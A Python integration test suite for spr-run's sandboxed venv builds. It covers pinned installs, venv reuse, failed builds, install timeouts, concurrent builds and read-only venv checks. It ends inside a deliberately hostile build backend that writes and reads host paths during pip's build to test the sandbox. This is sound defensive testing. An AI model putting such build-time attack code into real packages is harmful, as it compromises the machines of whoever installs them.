"""Environments (SPEC §4, LocalEngine): `spr-run --venv DIR --package N==V`
makes a venv with exactly those pins, installing them in a sandbox, and
runs the code in it; the same DIR and pins are reused without a new
install.

On disk: `<parent>/.<name>.spr/<key>/` is a venv, `<key>.json` its marker,
`lock` the store's lock, and DIR a link `.<name>.spr/<key>`.

Everything here is real: the spr-run binary, the kernel's sandbox, the
interpreter's venv module and pip. Packages come from wheels and sdists the
tests build themselves (there is no network here); one test installs a
real wheel Debian ships (/usr/share/python-wheels).

InstallSandboxTest installs a hostile sdist whose in-tree build backend
attacks the host while pip builds it: the same attack run directly on the
host first proves it works there.
"""
import errno
import glob
import hashlib
import http.server
import io
import json
import os
import pty
import pwd
import re
import secrets
import shutil
import socket
import subprocess
import tarfile
import tempfile
import textwrap
import threading
import time
import unittest
import zipfile
from concurrent.futures import ThreadPoolExecutor

from integration.common import (DEGRADED, ENGINE, PERMISSIVE, SPR_RUN, SprTestCase,
                                host_pids_with_argv0, spr_run)

HOST_PYTHON = "/usr/bin/python3"
# The suite also runs as an unprivileged user (make rootless): the home
# directory and what owns the store are the caller's.
IS_ROOT = os.geteuid() == 0
HOME = pwd.getpwuid(os.geteuid()).pw_dir
DEBIAN_WHEELS = "/usr/share/python-wheels"
SYSTEM_SITE = "/usr/lib/python3/dist-packages"
KEY = re.compile(r"^[0-9a-f]{16}$")


# ---- packages the tests build ------------------------------------------------------

def make_wheel(directory, name, version, source="", requires=()):
    """A minimal pure-Python wheel: name/__init__.py with `source`, and a
    METADATA with one Requires-Dist line per entry of `requires`."""
    dist = f"{name}-{version}.dist-info"
    path = os.path.join(directory, f"{name}-{version}-py3-none-any.whl")
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    metadata += "".join(f"Requires-Dist: {r}\n" for r in requires)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(f"{name}/__init__.py", source)
        z.writestr(f"{dist}/METADATA", metadata)
        z.writestr(f"{dist}/WHEEL", "Wheel-Version: 1.0\nGenerator: spr-tests\n"
                                    "Root-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(f"{dist}/RECORD", "")
    return path


# The part of every in-tree backend that writes the wheel: a module whose
# REPORT is what before_build() returned (also as report.json). pip builds
# through build_wheel only (no prepare_metadata_for_build_wheel: its
# fallback builds the wheel once and reuses it).
BACKEND_WHEEL_WRITER = '''
import json as _json, os as _os, zipfile as _zipfile

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = before_build()
    dist = NAME + "-" + VERSION + ".dist-info"
    fname = NAME + "-" + VERSION + "-py3-none-any.whl"
    with _zipfile.ZipFile(_os.path.join(wheel_directory, fname), "w") as z:
        z.writestr(NAME + "/__init__.py", "REPORT = %r\\n" % (report,))
        z.writestr(NAME + "/report.json", _json.dumps(report))
        z.writestr(dist + "/METADATA",
                   "Metadata-Version: 2.1\\nName: %s\\nVersion: %s\\n" % (NAME, VERSION))
        z.writestr(dist + "/WHEEL", "Wheel-Version: 1.0\\nGenerator: spr-tests\\n"
                                    "Root-Is-Purelib: true\\nTag: py3-none-any\\n")
        z.writestr(dist + "/RECORD", "")
    return fname
'''


def backend_source(name, version, body):
    """An in-tree PEP 517 backend for name==version; `body` defines
    before_build() (run while pip builds the wheel; returns the REPORT)."""
    return (f"NAME = {name!r}\nVERSION = {version!r}\n" + textwrap.dedent(body) +
            BACKEND_WHEEL_WRITER)


def make_sdist(directory, name, version, backend):
    """`name-version.tar.gz`: pyproject.toml naming the in-tree backend
    (backend-path ["."], no build requirements), PKG-INFO and backend.py."""
    top = f"{name}-{version}"
    files = {
        "pyproject.toml": ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                           'backend-path = ["."]\n'),
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        "backend.py": backend,
    }
    path = os.path.join(directory, f"{top}.tar.gz")
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo(top)
        info.type, info.mode, info.mtime = tarfile.DIRTYPE, 0o755, int(time.time())
        tar.addfile(info)
        for fname, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{fname}")
            info.size, info.mode, info.mtime = len(data), 0o644, int(time.time())
            tar.addfile(info, io.BytesIO(data))
    return path


def make_tmp(prefix):
    """A temp dir the sandbox can read (mkdtemp makes 0700)."""
    path = tempfile.mkdtemp(prefix=prefix)
    os.chmod(path, 0o755)
    return path


# ---- what is on disk -----------------------------------------------------------------

def store_of(venv_dir):
    venv_dir = venv_dir.rstrip("/")
    parent, name = os.path.split(venv_dir)
    return os.path.join(parent, f".{name}.spr")


def keys_in(store):
    """The venv directories (16 hex digits) in a store."""
    if not os.path.isdir(store):
        return set()
    return {n for n in os.listdir(store) if KEY.match(n) and os.path.isdir(os.path.join(store, n))}


def linked_key(venv_dir):
    target = os.readlink(venv_dir.rstrip("/"))
    prefix = f".{os.path.basename(venv_dir.rstrip('/'))}.spr/"
    assert target.startswith(prefix), target
    return target[len(prefix):]


def read_marker(venv_dir, key=None):
    key = key or linked_key(venv_dir)
    with open(os.path.join(store_of(venv_dir), key + ".json")) as f:
        return json.load(f)


def foreign_owned(root):
    """Paths under root (an os.lstat walk) not owned by the caller (uid and
    gid): what the install wrote as the sandbox's uid must be handed back."""
    found = []
    uid, gid = os.geteuid(), os.getegid()
    for dirpath, dirnames, filenames in os.walk(root):
        for n in [""] + dirnames + filenames:
            p = os.path.join(dirpath, n) if n else dirpath
            st = os.lstat(p)
            if st.st_uid != uid or st.st_gid != gid:
                found.append((p, st.st_uid, st.st_gid))
    return found


def venv_args(venv_dir, packages=(), find_links=None, no_index=True, extra=()):
    args = ["--venv", venv_dir]
    for p in packages:
        args += ["--package", p]
    if find_links:
        args += ["--pip-find-links", find_links]
    if no_index:
        args.append("--pip-no-index")
    return args + list(extra)


class PtyRun:
    """spr-run with stderr on a pseudo-terminal (so it prints its
    progress) and stdout on a pipe; the terminal is drained by a thread."""

    def __init__(self, args):
        master, slave = pty.openpty()
        self.proc = subprocess.Popen([SPR_RUN, "--engine", ENGINE, *args],
                                     stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                     stderr=slave, close_fds=True)
        os.close(slave)
        self.master = master
        self.buf = b""
        self.cond = threading.Condition()
        self.eof = False
        self.outcome = None
        self.thread = threading.Thread(target=self._drain, daemon=True)
        self.thread.start()

    def _drain(self):
        while True:
            try:
                data = os.read(self.master, 4096)
            except OSError:  # EIO: the last writer closed the terminal
                data = b""
            with self.cond:
                if not data:
                    self.eof = True
                    self.cond.notify_all()
                    return
                self.buf += data
                self.cond.notify_all()

    @property
    def stderr(self):
        with self.cond:
            return self.buf.decode("utf-8", "replace").replace("\r\n", "\n")

    def wait_for(self, text, timeout):
        """True once `text` appeared on the terminal; False at EOF or timeout."""
        deadline = time.monotonic() + timeout
        with self.cond:
            while text.encode() not in self.buf:
                left = deadline - time.monotonic()
                if self.eof or left <= 0:
                    return False
                self.cond.wait(left)
            return True

    def finish(self, timeout=120):
        """(returncode, the RunnerResult or None, stderr)."""
        if self.outcome is None:
            try:
                out, _ = self.proc.communicate(timeout=timeout)
            finally:
                if self.proc.poll() is None:
                    self.proc.kill()
                    self.proc.communicate()
                self.thread.join(10)
                if self.master is not None:
                    os.close(self.master)
                    self.master = None
            text = out.decode("utf-8", "replace")
            self.outcome = (self.proc.returncode, json.loads(text) if text.strip() else None,
                            self.stderr)
        return self.outcome

    def kill(self):
        """Ends it if it still runs (cleanup after a failed assertion)."""
        if self.outcome is None:
            if self.proc.poll() is None:
                self.proc.kill()
            try:
                self.finish(30)
            except (OSError, ValueError, subprocess.TimeoutExpired):
                pass


# A backend that sleeps while pip builds it: a long build.
SLOW_BODY = '''
import time
def before_build():
    time.sleep({seconds})
    return "built slowly"
'''

# A backend whose build never ends by itself: a child named {token} (so
# the test can see it on the host) sleeps 30 s.
SLEEPY_BODY = '''
import subprocess
def before_build():
    subprocess.run([{token!r}, "600"], executable="/bin/sleep")
    return "woke up"
'''


# ---- the environments --------------------------------------------------------------------

@unittest.skipIf(ENGINE != "local", "--venv builds with the LocalEngine's sandbox")
class EnvironmentTest(SprTestCase):
    """One venv (BASE: alpha==1.0) is built once for the class; tests that
    change it leave it at alpha==1.0 again."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = make_tmp("spr-env-")
        cls.wheels = os.path.join(cls.tmp, "wheels")
        os.mkdir(cls.wheels, 0o755)
        make_wheel(cls.wheels, "alpha", "1.0", "VALUE = 'alpha 1.0'\n")
        make_wheel(cls.wheels, "alpha", "1.1", "VALUE = 'alpha 1.1'\n")
        make_wheel(cls.wheels, "beta", "1.0", "VALUE = 'beta 1.0'\n")
        make_wheel(cls.wheels, "beta", "2.0", "VALUE = 'beta 2.0'\n", requires=["alpha==1.1"])
        make_wheel(cls.wheels, "delta", "1.0",
                   "import alpha\nVALUE = 'delta 1.0 with ' + alpha.VALUE\n",
                   requires=["alpha==1.1"])
        broken = make_wheel(cls.wheels, "broken", "1.0", "VALUE = 1\n" * 2000)
        with open(broken, "rb") as f:
            data = f.read()
        with open(broken, "wb") as f:  # a truncated zip: no central directory
            f.write(data[:len(data) // 2])
        cls.sdists = os.path.join(cls.tmp, "sdists")
        os.mkdir(cls.sdists, 0o755)
        make_sdist(cls.sdists, "slow", "1.0",
                   backend_source("slow", "1.0", SLOW_BODY.format(seconds=3)))
        cls.sleepy_token = f"spr-sleepy-{secrets.token_hex(6)}"
        make_sdist(cls.sdists, "sleepy", "1.0",
                   backend_source("sleepy", "1.0", SLEEPY_BODY.format(token=cls.sleepy_token)))
        # The venvs several tests look at, built side by side (each build
        # is seconds of ensurepip): the class's BASE, Debian's setuptools,
        # a dependency, and one in a directory that exists empty.
        cls.base = os.path.join(cls.tmp, "base", "env")
        cls.empty = os.path.join(cls.tmp, "empty", "env")
        os.makedirs(cls.empty)
        cls.debian = os.path.join(cls.tmp, "debian", "env")
        cls.deps = os.path.join(cls.tmp, "deps", "env")
        found = sorted(glob.glob(os.path.join(DEBIAN_WHEELS, "setuptools-*.whl")))
        cls.setuptools = os.path.basename(found[-1]).split("-")[1] if found else None
        builds = [lambda: cls.run_alpha(cls.base),
                  lambda: cls.setuptools and spr_run(
                      "import sys, setuptools\n"
                      "result = [setuptools.__version__, setuptools.__file__, sys.prefix]",
                      args=venv_args(cls.debian, [f"setuptools=={cls.setuptools}"],
                                     DEBIAN_WHEELS)),
                  lambda: spr_run("import delta, alpha\nresult = [delta.VALUE, alpha.VALUE]",
                                  args=venv_args(cls.deps, ["delta==1.0"], cls.wheels)),
                  lambda: cls.run_alpha(cls.empty)]
        with ThreadPoolExecutor(len(builds)) as pool:
            cls.base_run, cls.debian_run, cls.deps_run, cls.empty_run = pool.map(
                lambda f: f(), builds)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    @classmethod
    def run_alpha(cls, venv_dir, packages=("alpha==1.0",), code=None, **kw):
        code = code or "import sys, alpha\nresult = [alpha.VALUE, sys.prefix, alpha.__file__]"
        return spr_run(code, args=venv_args(venv_dir, packages, cls.wheels), **kw)

    def assertAlpha(self, run, venv_dir, value="alpha 1.0"):
        self.assertOk(run)
        got, prefix, module = run["result"]
        self.assertEqual(got, value, run)
        store = store_of(venv_dir)
        self.assertEqual(os.path.dirname(prefix), store, run)
        self.assertTrue(KEY.match(os.path.basename(prefix)), run)
        self.assertTrue(module.startswith(prefix + "/lib/"), run)
        self.assertTrue(os.path.islink(venv_dir.rstrip("/")), venv_dir)
        self.assertEqual(os.path.realpath(venv_dir), prefix)
        return prefix

    def assertClean(self, store):
        """Every venv in the store is complete (has its marker), and no
        temporary file of a build or a swap is left."""
        if not os.path.isdir(store):
            return
        names = os.listdir(store)
        for key in keys_in(store):
            self.assertIn(key + ".json", names, f"{key} in {store} has no marker: {names}")
        self.assertEqual([n for n in names if n.endswith(".tmp")], [], names)

    def assertUnchanged(self, venv_dir, key):
        """venv_dir still links to `key`, whose venv still runs."""
        self.assertEqual(linked_key(venv_dir), key)
        self.assertEqual(os.path.basename(self.assertAlpha(self.run_alpha(venv_dir), venv_dir)),
                         key)

    def assertBuildFailed(self, run, venv_dir, *needles):
        self.assertEqual(run.returncode, 125, run)
        self.assertIsNotNone(run.result, run)
        self.assertFalse(run["ok"], run)
        error = run["error"]
        self.assertIn(f"building the venv {venv_dir.rstrip('/')} failed", error, run)
        self.assertIn("venv_dir is left as it was", error, run)
        for needle in needles:
            self.assertIn(needle, error, run)
        self.assertIn(error, run.stderr)  # and said on stderr too

    # -- installing -----------------------------------------------------------------

    def test_run_imports_installed_package(self):
        prefix = self.assertAlpha(self.base_run, self.base)
        self.assertTrue(prefix.startswith(store_of(self.base) + "/"))
        marker = read_marker(self.base)
        self.assertEqual(marker["spr_venv"], 1)
        self.assertEqual(marker["key"], os.path.basename(prefix))
        self.assertEqual(marker["manager"], "python")
        self.assertEqual(marker["packages"], ["alpha==1.0"])
        self.assertEqual(marker["installed"].get("alpha"), "1.0", marker)
        self.assertEqual(marker["pip"], {"find_links": self.wheels, "no_index": True})
        self.assertEqual(marker["python"]["executable"], os.path.realpath(HOST_PYTHON))
        # The venv is a real one: its own interpreter and pyvenv.cfg.
        self.assertTrue(os.path.isfile(os.path.join(prefix, "pyvenv.cfg")))
        self.assertTrue(os.path.exists(os.path.join(prefix, "bin", "python")))
        # What the install (another uid, in the sandbox) wrote is the caller's now.
        self.assertEqual(foreign_owned(store_of(self.base)), [])
        self.assertClean(store_of(self.base))

    def test_debian_wheel(self):
        """A real wheel: Debian's setuptools. (ensurepip already seeds the
        venv with it; the pin must resolve to that version and the run must
        use the venv's copy, not the system's.)"""
        if not self.setuptools:
            self.skipTest(f"no setuptools wheel in {DEBIAN_WHEELS}")
        version, venv_dir, r = self.setuptools, self.debian, self.debian_run
        self.assertOk(r)
        got, module, prefix = r["result"]
        self.assertEqual(got, version, r)
        self.assertTrue(module.startswith(prefix + "/lib/"), r)
        self.assertEqual(os.path.dirname(prefix), store_of(venv_dir), r)
        marker = read_marker(venv_dir)
        self.assertEqual(marker["packages"], [f"setuptools=={version}"])
        self.assertEqual(marker["installed"].get("setuptools"), version, marker)
        self.assertEqual(foreign_owned(store_of(venv_dir)), [])

    def test_dependency_is_installed(self):
        """delta 1.0 Requires-Dist alpha==1.1: pip installs both; the marker
        lists the pin asked for and both installed versions."""
        venv_dir = self.deps
        self.assertOk(self.deps_run, ["delta 1.0 with alpha 1.1", "alpha 1.1"])
        marker = read_marker(venv_dir)
        self.assertEqual(marker["packages"], ["delta==1.0"])
        self.assertEqual(marker["installed"].get("delta"), "1.0", marker)
        self.assertEqual(marker["installed"].get("alpha"), "1.1", marker)
        self.assertEqual(foreign_owned(store_of(venv_dir)), [])

    def test_new_package_set_gets_new_venv(self):
        """Another package set is another venv: nothing is installed on
        top, so the old set's package is gone (not left importable, as in
        the reference); the unused old venv is collected; switching back
        works."""
        old_key = linked_key(self.base)
        r = spr_run("import sys, beta\nresult = [beta.VALUE, sys.prefix]",
                    args=venv_args(self.base, ["beta==1.0"], self.wheels))
        self.assertOk(r)
        self.assertEqual(r["result"][0], "beta 1.0", r)
        new_key = linked_key(self.base)
        self.assertNotEqual(new_key, old_key)
        self.assertEqual(r["result"][1], os.path.join(store_of(self.base), new_key))
        self.assertEqual(read_marker(self.base)["packages"], ["beta==1.0"])
        self.assertEqual(keys_in(store_of(self.base)), {new_key})  # the old one collected
        self.assertFalse(os.path.exists(os.path.join(store_of(self.base), old_key + ".json")))
        r = spr_run("import alpha", args=venv_args(self.base, ["beta==1.0"], self.wheels))
        self.assertFailed(r, 1, "ModuleNotFoundError: No module named 'alpha'")
        # back
        r = self.run_alpha(self.base)
        self.assertAlpha(r, self.base)
        self.assertEqual(linked_key(self.base), old_key)  # the key is the package set's
        r = spr_run("import beta", args=venv_args(self.base, ["alpha==1.0"], self.wheels))
        self.assertFailed(r, 1, "ModuleNotFoundError: No module named 'beta'")
        self.assertEqual(keys_in(store_of(self.base)), {old_key})
        self.assertClean(store_of(self.base))

    def test_usage_errors(self):
        """Options checked before anything is made: bad usage is exit 2,
        a request the engine refuses 125; nothing is created either way."""
        venv_dir = os.path.join(self.tmp, "usage", "env")
        code = os.path.join(self.tmp, "usage.py")
        with open(code, "w") as f:
            f.write("result = 1\n")
        cases = [
            (["--venv", venv_dir, "--venv-manager", "foo"], 2, "--venv-manager"),
            (["--package", "alpha==1.0"], 2, "need --venv DIR"),
            (["--pip-find-links", self.wheels], 2, "need --venv DIR"),
            (["--pip-no-index"], 2, "need --venv DIR"),
            (["--pip-index-url", "http://127.0.0.1:9/simple/"], 2, "need --venv DIR"),
            # --install-timeout as people type it: whole seconds 1..86400
            # pass the flag check (and reach the engine, which stops at uv
            # missing: nothing is built); the rest are usage errors.
            *[(["--venv", venv_dir, "--venv-manager", "uv", "--install-timeout", t], 125,
               "venv_manager 'uv' needs the uv program")
              for t in ("1", "10", "100", "600", "1000", "3600", "86400")],
            *[(["--venv", venv_dir, "--install-timeout", t], 2, "--install-timeout")
              for t in ("0", "86401", "1.5", "0.5", "-5", "+10", "1e3", " 10", "10s", "abc",
                        "", "99999999999999999999")],
            (["--venv", venv_dir, "--package", "alpha==1.0", "--pip-no-index"], 125,
             "no_index needs find_links"),
            # uv looked up on PATH (here an empty one): a clear way out.
            (["--venv", venv_dir, "--venv-manager", "uv", "--package", "alpha==1.0"], 125,
             "venv_manager 'uv' needs the uv program"),
        ]
        empty_path = make_tmp("spr-env-path-")
        self.addCleanup(shutil.rmtree, empty_path, True)
        for args, status, needle in cases:
            with self.subTest(args=args):
                proc = subprocess.run([SPR_RUN, "--engine", ENGINE, *args, code],
                                      capture_output=True, text=True, timeout=60,
                                      env=dict(os.environ, PATH=empty_path))
                self.assertEqual(proc.returncode, status, proc.stderr)
                self.assertIn(needle, proc.stderr)
                if "uv" in args:
                    self.assertIn("--venv-manager python", proc.stderr)
        self.assertFalse(os.path.lexists(os.path.dirname(venv_dir)))

    # -- failures leave venv_dir as it was ------------------------------------------

    def test_unpinned_spec(self):
        venv_dir = os.path.join(self.tmp, "unpinned", "env")
        r = spr_run("result = 1", args=venv_args(venv_dir, ["alpha"], self.wheels))
        self.assertEqual(r.returncode, 125, r)
        self.assertIn("Package specs must be pinned as 'name==version'. Invalid package: alpha",
                      r.stderr)
        for spec in ("alpha>=1.0", "alpha==", "==1.0"):
            with self.subTest(spec=spec):
                r = spr_run("result = 1", args=venv_args(venv_dir, [spec], self.wheels))
                self.assertEqual(r.returncode, 125, r)
                self.assertIn(f"Invalid package: {spec}", r.stderr)
        self.assertFalse(os.path.lexists(os.path.dirname(venv_dir)))
        # an existing venv_dir is not touched either
        key = linked_key(self.base)
        r = spr_run("result = 1", args=venv_args(self.base, ["alpha==1.0", "beta"], self.wheels))
        self.assertEqual(r.returncode, 125, r)
        self.assertIn("Invalid package: beta", r.stderr)
        self.assertEqual(linked_key(self.base), key)

    def test_failed_builds(self):
        """A missing package, a version conflict and a corrupt wheel: each
        build fails with pip's own words; venv_dir stays absent, or keeps
        pointing at the previous venv, which still works; no half-built
        venv is left in the store."""
        self.assertOk(self.deps_run)
        base_key, deps_key = linked_key(self.base), linked_key(self.deps)
        fresh = os.path.join(self.tmp, "missing", "env")
        cases = [
            (fresh, ["gamma==1.0"], ["No matching distribution found for gamma==1.0"]),
            (self.base, ["alpha==1.0", "beta==2.0"], ["ResolutionImpossible",
                                                      "conflicting dependencies"]),
            (self.deps, ["broken==1.0"], ["is invalid"]),
        ]
        with ThreadPoolExecutor(len(cases)) as pool:
            runs = list(pool.map(lambda c: self.run_alpha(c[0], c[1], code="result = 1"), cases))
        for (venv_dir, packages, needles), r in zip(cases, runs):
            with self.subTest(packages=packages):
                self.assertBuildFailed(r, venv_dir, *needles)
                self.assertClean(store_of(venv_dir))
        self.assertFalse(os.path.lexists(fresh))
        self.assertEqual(keys_in(store_of(fresh)), set())
        self.assertEqual(keys_in(store_of(self.base)), {base_key})
        self.assertUnchanged(self.base, base_key)
        self.assertEqual(keys_in(store_of(self.deps)), {deps_key})
        self.assertEqual(linked_key(self.deps), deps_key)
        r = spr_run("import delta\nresult = delta.VALUE",
                    args=venv_args(self.deps, ["delta==1.0"], self.wheels))
        self.assertOk(r, "delta 1.0 with alpha 1.1")

    def test_install_timeout(self):
        """A build that does not end is killed at --install-timeout: the
        whole install (here a backend's sleeping child) is gone, and
        venv_dir is not created."""
        venv_dir = os.path.join(self.tmp, "timeout", "env")
        code = os.path.join(self.tmp, "sleepy.py")
        with open(code, "w") as f:
            f.write("result = 1\n")
        run = PtyRun(["--json", *venv_args(venv_dir, ["sleepy==1.0"], self.sdists,
                                           extra=["--install-timeout", "20"]), code])
        try:
            # Seen on the host while the build is under way (the venv is
            # made within the 20 s, even on a loaded or sanitized build;
            # the backend then sleeps longer).
            deadline = time.monotonic() + 40
            seen = []
            while not seen and run.proc.poll() is None and time.monotonic() < deadline:
                seen = host_pids_with_argv0(self.sleepy_token)
                time.sleep(0.1)
            rc, result, stderr = run.finish(90)
        finally:
            run.kill()
        self.assertTrue(seen, f"the backend's child never ran: {stderr}")
        self.assertEqual(rc, 125, stderr)
        self.assertFalse(result["ok"], result)
        self.assertIn(f"building the venv {venv_dir}", result["error"])
        self.assertIn("did not finish within 20 s", result["error"])
        self.assertEqual(host_pids_with_argv0(self.sleepy_token), [])
        self.assertFalse(os.path.lexists(venv_dir))
        self.assertEqual(keys_in(store_of(venv_dir)), set())
        self.assertClean(store_of(venv_dir))

    # -- reuse and venv_dir spellings -----------------------------------------------

    def test_second_process_reuses(self):
        r = self.run_alpha(self.base)
        prefix = self.assertAlpha(r, self.base)
        key = os.path.basename(prefix)
        marker = os.path.join(store_of(self.base), key + ".json")
        before = [os.stat(marker), os.stat(prefix), os.lstat(self.base),
                  os.stat(os.path.join(prefix, "bin"))]
        # The same pins spelled otherwise are the same venv, as pip reads them.
        for packages in (("alpha==1.0",), ("Alpha==1.0.0",), ("ALPHA==1.0", "alpha==1.0")):
            r = self.run_alpha(self.base, packages=packages)
            self.assertEqual(self.assertAlpha(r, self.base), prefix, packages)
            after = [os.stat(marker), os.stat(prefix), os.lstat(self.base),
                     os.stat(os.path.join(prefix, "bin"))]
            for b, a in zip(before, after):
                self.assertEqual((b.st_ino, b.st_mtime_ns), (a.st_ino, a.st_mtime_ns), packages)

    def test_venv_dir_spellings(self):
        """Realistic venv_dir spellings work: a trailing slash, parents that
        do not exist yet, spaces in names; a relative path and `/` do not."""
        # One build for all three (each build is seconds of ensurepip):
        # parents that do not exist, spaces in a parent and in the name,
        # and a trailing slash.
        venv_dir = os.path.join(self.tmp, "spell", "not yet", "made here", "the env") + "/"
        prefix = self.assertAlpha(self.run_alpha(venv_dir), venv_dir)
        self.assertEqual(os.path.dirname(prefix), store_of(venv_dir))
        self.assertEqual(os.path.basename(store_of(venv_dir)), ".the env.spr")
        self.assertEqual(foreign_owned(os.path.join(self.tmp, "spell")), [])
        # Other spellings of the same directory are the same venv (no build).
        marker = os.path.join(store_of(venv_dir), linked_key(venv_dir) + ".json")
        before = os.stat(marker)
        for spelling in (venv_dir.rstrip("/"), venv_dir + "/",
                         venv_dir.replace("/made here/", "//made here/")):
            with self.subTest(spelling=spelling):
                self.assertEqual(self.assertAlpha(self.run_alpha(spelling), venv_dir), prefix)
                after = os.stat(marker)
                self.assertEqual((after.st_ino, after.st_mtime_ns),
                                 (before.st_ino, before.st_mtime_ns))
        # Reached through a link on the way (as /home often is): the same
        # venv, which the run sees at its real path.
        os.symlink("spell", os.path.join(self.tmp, "spell-link"))
        linked = venv_dir.replace("/spell/", "/spell-link/")
        r = self.run_alpha(linked)
        self.assertOk(r)
        self.assertEqual(r["result"][:2], ["alpha 1.0", prefix], r)
        self.assertEqual(os.stat(marker).st_ino, before.st_ino)

        r = self.run_alpha("relative/env", code="result = 1")
        self.assertEqual(r.returncode, 2, r)
        self.assertIn("not an absolute path", r.stderr)
        self.assertFalse(os.path.lexists("relative"))
        for bad in ("/", os.path.join(self.tmp, "spell3", "env", ".."),
                    os.path.join(self.tmp, "spell3", ".")):
            with self.subTest(venv_dir=bad):
                r = self.run_alpha(bad, code="result = 1")
                self.assertEqual(r.returncode, 125, r)
                self.assertIn("must name a directory", r.stderr)
        self.assertFalse(os.path.lexists(os.path.join(self.tmp, "spell3")))
        self.assertFalse(os.path.lexists("/.spr"))

    def test_foreign_directory(self):
        """A non-empty directory spr did not make is refused (never
        replaced); an empty one is taken."""
        venv_dir = os.path.join(self.tmp, "foreign", "env")
        os.makedirs(os.path.join(venv_dir, "sub"))
        with open(os.path.join(venv_dir, "sub", "mine.txt"), "w") as f:
            f.write("keep me\n")

        def snapshot():
            return sorted((os.path.relpath(os.path.join(d, n), venv_dir),
                           os.lstat(os.path.join(d, n)).st_mtime_ns)
                          for d, ds, fs in os.walk(venv_dir) for n in ds + fs)
        before = snapshot()
        r = self.run_alpha(venv_dir, code="result = 1")
        self.assertEqual(r.returncode, 125, r)
        self.assertIn(f"venv_dir {venv_dir} exists and is not an environment spr made", r.stderr)
        self.assertIn(f"--python {venv_dir}/bin/python", r.stderr)
        self.assertFalse(os.path.islink(venv_dir))
        self.assertEqual(snapshot(), before)
        with open(os.path.join(venv_dir, "sub", "mine.txt")) as f:
            self.assertEqual(f.read(), "keep me\n")
        self.assertEqual(keys_in(store_of(venv_dir)), set())

        self.assertAlpha(self.empty_run, self.empty)  # made empty in setUpClass

    # -- concurrency --------------------------------------------------------------------

    def test_concurrent_builds_build_once(self):
        """Two processes on the same new venv_dir: one builds, the other
        waits for it and takes its venv. stderr is a terminal so both say
        what they do; B starts once A said it is building (A's backend
        sleeps 3 s: A is still building when B arrives)."""
        venv_dir = os.path.join(self.tmp, "race", "env")
        code = os.path.join(self.tmp, "race.py")
        with open(code, "w") as f:
            f.write("import sys, slow\nresult = [slow.REPORT, sys.prefix]\n")
        args = ["--json", *venv_args(venv_dir, ["slow==1.0"], self.sdists), code]
        a = PtyRun(args)
        b = None
        try:
            self.assertTrue(a.wait_for("spr: building the venv", 60), a.stderr)
            b = PtyRun(args)
            self.assertTrue(b.wait_for("spr: waiting for another build", 60), b.stderr)
            ra = a.finish(120)
            rb = b.finish(120)
        finally:
            a.kill()
            if b:
                b.kill()
        for name, (rc, result, stderr) in (("A", ra), ("B", rb)):
            with self.subTest(process=name):
                # Both processes then run in the new venv at once: each
                # compiles the worker for its new interpreter, and the
                # second rename of the .pyc used to pull the file out from
                # under the first's bind mount.
                self.assertNotIn("spr_worker-", str(result and result["error"]),
                                 "two first runs of a new interpreter at once: the worker .pyc "
                                 "cache race (src/local/python.c spr_local_compiled_worker)")
                self.assertEqual(rc, 0, f"{result}\n{stderr}")
                self.assertTrue(result["ok"], result)
                self.assertEqual(result["result"][0], "built slowly")
        if ra[0] == rb[0] == 0:  # (a failure is reported above)
            self.assertEqual(ra[1]["result"][1], rb[1]["result"][1])
        a_err, b_err = ra[2], rb[2]
        self.assertIn(f"spr: building the venv {venv_dir}", a_err)
        self.assertIn("spr: creating the venv", a_err)
        self.assertIn("spr: installing slow==1.0", a_err)
        self.assertNotIn("waiting for another build", a_err)
        self.assertIn(f"spr: waiting for another build of {venv_dir}", b_err)
        self.assertNotIn("building the venv", b_err)
        self.assertNotIn("spr: installing", b_err)
        self.assertEqual(len(keys_in(store_of(venv_dir))), 1)
        self.assertClean(store_of(venv_dir))

    # -- the sandbox of a run -----------------------------------------------------------

    def test_run_cannot_write_the_venv(self):
        """The venv is shown read-only to the code: no new module in its
        site-packages, no change to an installed one."""
        r = self.run_alpha(self.base)
        prefix = self.assertAlpha(r, self.base)
        module = r["result"][2]
        with open(module, "rb") as f:
            content = f.read()
        st = os.stat(module)
        site = os.path.dirname(os.path.dirname(module))
        code = textwrap.dedent(f"""
            import errno, os
            attempts = {{
                "create": lambda: open(os.path.join({site!r}, "planted.py"), "w").write("x"),
                "append": lambda: open({module!r}, "a").write("# changed"),
                "truncate": lambda: open({module!r}, "w"),
                "remove": lambda: os.remove({module!r}),
                "chmod": lambda: os.chmod({module!r}, 0o777),
                "mkdir": lambda: os.mkdir(os.path.join({prefix!r}, "bin", "planted")),
                "relink": lambda: os.remove(os.path.join({prefix!r}, "bin", "python")),
            }}
            result = {{}}
            for name, attempt in attempts.items():
                try:
                    attempt()
                    result[name] = "done"
                except OSError as e:
                    result[name] = errno.errorcode.get(e.errno, str(e))
        """)
        r = spr_run(code, policy=PERMISSIVE,
                    args=venv_args(self.base, ["alpha==1.0"], self.wheels))
        self.assertOk(r)
        for name, outcome in r["result"].items():
            with self.subTest(attempt=name):
                self.assertIn(outcome, ("EROFS", "EACCES", "EPERM"), r)
        with open(module, "rb") as f:
            self.assertEqual(f.read(), content)
        self.assertEqual((os.stat(module).st_mtime_ns, os.stat(module).st_mode),
                         (st.st_mtime_ns, st.st_mode))
        self.assertFalse(os.path.exists(os.path.join(site, "planted.py")))
        self.assertFalse(os.path.exists(os.path.join(prefix, "bin", "planted")))
        self.assertTrue(os.path.lexists(os.path.join(prefix, "bin", "python")))


# ---- the install's sandbox, attacked --------------------------------------------------

# The attack of the hostile build backend. Module level, so the control
# can run it directly on the host (`import backend; backend.attack(...)`).
EVIL_BODY = '''
import os, socket, sys

TARGETS = {targets!r}
SECRET = {secret!r}
PORT = {port!r}
TOKEN = {token!r}

def _try(what):
    try:
        return dict(what(), ok=True)
    except OSError as e:
        return {{"ok": False, "errno": e.errno, "error": str(e)}}

def _write(path):
    def go():
        with open(path, "w") as f:
            f.write(TOKEN)
        return {{}}
    return go

def _read(path):
    def go():
        with open(path) as f:
